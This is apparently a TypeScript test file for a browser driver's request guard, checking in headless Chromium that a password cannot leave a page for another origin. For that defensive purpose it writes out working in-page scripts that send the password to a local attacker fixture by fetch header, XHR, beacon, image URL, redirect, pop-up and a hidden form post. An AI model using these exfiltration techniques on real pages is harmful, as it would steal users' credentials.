import { type BlockedRequest, BrowserDriver } from "@sextant/core"
import {
  type AttackerOrigin,
  type FixtureSite,
  startAttackerOrigin,
  startFixtureSite,
} from "@sextant/fixture-site"
import { secretForms } from "@sextant/memory"
import { WebdriverioDriver } from "@sextant/webdriverio"
import { Effect, ManagedRuntime } from "effect"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { blockedRequestMessage, guardSecretRequests } from "../src/index.ts"

/**
 * The driver's request guard on its own, in real headless Chromium (the default Classic session whose
 * tabs' DevTools sockets stand in for BiDi): a page on the allowed origin sends the password to the
 * other origin by every means a script has — fetch with the secret in a header, XHR with a JSON body,
 * a beacon, an image, a form post, a pop-up, and a fetch the allowed origin answers with 307 — and the
 * other origin, which logs every request, receives none of them. Requests to the allowed origin still
 * go through; once armed the guard is strict, so a request to the other origin without the secret is
 * blocked too (and not reported).
 */

const PASSWORD = "open sesame+42"

let site: FixtureSite
let attacker: AttackerOrigin
let runtime: ManagedRuntime.ManagedRuntime<BrowserDriver, unknown>

beforeAll(async () => {
  site = await startFixtureSite({ port: 0 })
  attacker = await startAttackerOrigin()
  runtime = ManagedRuntime.make(WebdriverioDriver.layerShared({}))
  await runtime.runPromise(Effect.void)
})

afterAll(async () => {
  await runtime?.dispose()
  await attacker?.close()
  await site?.close()
})

const compact = (text: string): string => text.toLowerCase().replace(/[^\p{L}\p{N}]+/gu, "")
const leaks = (text: string): boolean =>
  secretForms(PASSWORD).some((form) => text.toLowerCase().includes(form.toLowerCase())) ||
  compact(text).includes("opensesame")

const siteCounts = async (): Promise<Record<string, number>> =>
  (await (await fetch(`${site.url}/hostile/counts`)).json()) as Record<string, number>

// Every way a page script can send what it read from a field but a form post (below); each request
// the page can await is awaited.
const exfiltrate = `
const [to, site, secret] = arguments
const settle = (promise) => promise.then(() => "sent", (error) => "failed: " + error.message)
const answers = {}
answers.header = await settle(fetch(to + "/h", { headers: { "x-token": secret.toUpperCase() } }))
answers.xhr = await new Promise((resolve) => {
  const request = new XMLHttpRequest()
  request.open("POST", to + "/x")
  request.setRequestHeader("content-type", "application/json")
  request.onload = () => resolve("sent")
  request.onerror = () => resolve("failed")
  request.send(JSON.stringify({ p: secret }))
})
answers.beacon = navigator.sendBeacon(to + "/b", new URLSearchParams({ p: secret }))
const image = new Image()
answers.image = await new Promise((resolve) => {
  image.onload = () => resolve("sent")
  image.onerror = () => resolve("failed")
  image.src = to + "/i?b=" + btoa(secret)
})
answers.redirect = await settle(fetch(site + "/hostile/redirect-post?to=" + encodeURIComponent(to), { method: "POST", body: "p=" + encodeURIComponent(secret) }))
answers.allowed = await settle(fetch(site + "/hostile/keystroke", { method: "POST", body: secret }))
answers.harmless = await settle(fetch(to + "/harmless", { mode: "no-cors" }))
answers.popup = window.open(to + "/popup?p=" + encodeURIComponent(secret.replaceAll(" ", "-"))) === null ? "refused" : "opened"
return JSON.stringify(answers)
`

// The last way, sent once the guard has seen the pop-up: a form post, which leaves the page (submitted
// after the script has answered).
const postForm = `
const [to, secret] = arguments
const form = document.createElement("form")
form.method = "post"
form.action = to + "/collect"
const field = document.createElement("input")
field.name = "password"
field.value = secret
form.append(field)
document.body.append(form)
setTimeout(() => form.submit(), 0)
`

const described = (request: BlockedRequest): string =>
  `${request.method} ${request.resourceType} ${request.carriedIn}`

/**
 * Reads the guard's `blocked` (which hands over what it blocked since the last read) until what was
 * read holds every one of `expected`, or `deadline` (epoch ms) has passed: the beacon, the pop-up and
 * the form post are sent by the browser after the script that asked for them has answered, each when
 * the browser gets to it. Answers everything read.
 */
const blockedUntil = (
  guard: { readonly blocked: Effect.Effect<ReadonlyArray<BlockedRequest>> },
  expected: ReadonlyArray<string>,
  deadline: number,
) =>
  Effect.gen(function* () {
    const read: Array<BlockedRequest> = []
    const missing = () => {
      const seen = read.map(described)
      return expected.filter((one) => {
        const at = seen.indexOf(one)
        if (at === -1) return true
        seen.splice(at, 1)
        return false
      })
    }
    while (missing().length > 0 && Date.now() < deadline) {
      read.push(...(yield* guard.blocked))
      if (missing().length > 0) yield* Effect.sleep("20 millis")
    }
    return read
  })

describe("the request guard stops every request that carries a secret to another origin", () => {
  it("blocks fetch, XHR, beacon, image, pop-up, form post and a redirect's hop, and lets only the allowed origin through", async () => {
    const since = attacker.requests.length
    const before = await siteCounts()
    const { answers, blocked } = await runtime.runPromise(
      Effect.scoped(
        Effect.gen(function* () {
          const driver = yield* BrowserDriver
          yield* driver.navigate(`${site.url}/hostile/search-form`)
          const armed = yield* guardSecretRequests(driver, {
            values: [PASSWORD],
            origins: [site.url],
            strict: true,
          })
          if (!("guard" in armed)) throw new Error(armed.missing)
          const answers = JSON.parse(
            String(yield* driver.evaluate(exfiltrate, [attacker.url, site.url, PASSWORD])),
          ) as Record<string, unknown>
          // However slow the machine, both waits together end within 30 s, well inside the test's limit.
          const deadline = Date.now() + 30_000
          // Chromium reports a fetch() as XHR. The beacon, the image, the redirected fetch's second
          // hop and the pop-up, each once; then the form post, sent once they are all in.
          const beforeForm = yield* blockedUntil(
            armed.guard,
            ["POST Ping body", "GET Image url", "POST XHR body", "GET Document url"],
            deadline,
          )
          yield* driver.evaluate(postForm, [attacker.url, PASSWORD])
          const afterForm = yield* blockedUntil(armed.guard, ["POST Document body"], deadline)
          const blocked = [...beforeForm, ...afterForm, ...(yield* armed.guard.blocked)]
          for (const tab of yield* driver.tabs) if (!tab.active) yield* driver.closeTab(tab.handle)
          return { answers, blocked }
        }),
      ),
    )
    const requests = attacker.requests.slice(since)
    expect(requests.some((request) => leaks(JSON.stringify(request)))).toBe(false)
    // Strict once armed: nothing reaches the other origin, not even a request without the secret
    // (no CORS preflight either).
    expect(requests.map((request) => `${request.method} ${request.url}`)).toEqual([])
    expect(answers.header).toMatch(/^failed/)
    expect(answers.xhr).toBe("failed")
    expect(answers.image).toBe("failed")
    expect(answers.redirect).toMatch(/^failed/)
    expect(answers.allowed).toBe("sent")
    // Blocked too (strict), but not reported: it carried no secret.
    expect(answers.harmless).toMatch(/^failed/)
    const seen = blocked.map(described)
    // Each once, nothing else: the header fetch and the JSON XHR need a CORS preflight, which carries
    // no secret and is blocked (strict) and not reported, so they never send themselves. Compared as a
    // sorted list: the beacon and the image are sent at once, and which of the two the browser-wide
    // interception sees first is up to the browser.
    expect([...seen].sort()).toEqual(
      ["POST Ping body", "GET Image url", "POST XHR body", "GET Document url", "POST Document body"].sort(),
    )
    expect(blocked.every((request) => request.origin === attacker.url)).toBe(true)
    const redirected = blocked.find((request) => request.redirectedFrom !== undefined)
    expect(redirected?.redirectedFrom).toBe(site.url)
    expect(blockedRequestMessage(redirected!, "<secret:password>")).toContain(
      `request to ${attacker.url} (a redirect from ${site.url}) carried <secret:password> in its body`,
    )
    // The allowed origin got its POST and the redirecting POST; the hop to the other origin never left.
    const counts = await siteCounts()
    expect((counts.keystroke ?? 0) - (before.keystroke ?? 0)).toBe(1)
    expect((counts["POST /hostile/redirect-post"] ?? 0) - (before["POST /hostile/redirect-post"] ?? 0)).toBe(
      1,
    )
  }, 60_000)

  it("blocks a page load on the allowed origin that carries the secret in its URL: a form with no method is sent by GET", async () => {
    const { blocked, shown } = await runtime.runPromise(
      Effect.scoped(
        Effect.gen(function* () {
          const driver = yield* BrowserDriver
          yield* driver.navigate(`${site.url}/hostile/default-get-form`)
          const armed = yield* guardSecretRequests(driver, { values: [PASSWORD], origins: [site.url] })
          if (!("guard" in armed)) throw new Error(armed.missing)
          yield* driver.evaluate(
            `document.querySelector("#email").value = "ann@example.com"; document.querySelector("#password").value = arguments[0]; document.querySelector("form").submit(); return true`,
            [PASSWORD],
          )
          const blocked = yield* blockedUntil(armed.guard, ["GET Document url"], Date.now() + 30_000)
          // The site answers a load with the password by saying so; a blocked load shows the browser's error page.
          const shown = yield* driver.evaluate(`return document.body ? document.body.innerText : ""`, [])
          return { blocked, shown: String(shown) }
        }),
      ),
    )
    expect(blocked.map(described)).toEqual(["GET Document url"])
    expect(blocked[0]?.origin).toBe(site.url)
    expect(shown).not.toContain("Signed in")
  }, 60_000)

  it("stops with its scope: the same request goes out once the guard is released", async () => {
    const since = attacker.requests.length
    const token = "sentinel-token-8713"
    const send = `return fetch(arguments[0] + "/after?t=" + arguments[1], { mode: "no-cors" }).then(() => "sent", () => "failed")`
    const [guarded, released] = await runtime.runPromise(
      Effect.gen(function* () {
        const driver = yield* BrowserDriver
        yield* driver.navigate(`${site.url}/hostile/search-form`)
        const guarded = yield* Effect.scoped(
          Effect.gen(function* () {
            const armed = yield* guardSecretRequests(driver, { values: [token], origins: [site.url] })
            if (!("guard" in armed)) throw new Error(armed.missing)
            return yield* driver.evaluate(send, [attacker.url, token])
          }),
        )
        // The guard's release left the page for about:blank; a page loaded after it is not guarded.
        yield* driver.navigate(`${site.url}/hostile/search-form`)
        const released = yield* driver.evaluate(send, [attacker.url, token])
        return [guarded, released] as const
      }),
    )
    expect(guarded).toBe("failed")
    expect(released).toBe("sent")
    expect(attacker.requests.slice(since).map((request) => request.url)).toEqual([`/after?t=${token}`])
  }, 60_000)
})

describe("a BiDi session", () => {
  it("refuses to guard requests and says why", async () => {
    const bidi = ManagedRuntime.make(WebdriverioDriver.layer({ bidi: true }))
    try {
      const armed = await bidi.runPromise(
        Effect.scoped(
          BrowserDriver.use((driver) =>
            guardSecretRequests(driver, { values: [PASSWORD], origins: [site.url] }),
          ),
        ),
      )
      expect("missing" in armed ? armed.missing : "").toContain(
        "guarding requests needs the tabs' Chrome DevTools sockets",
      )
    } finally {
      await bidi.dispose()
    }
  }, 60_000)
})
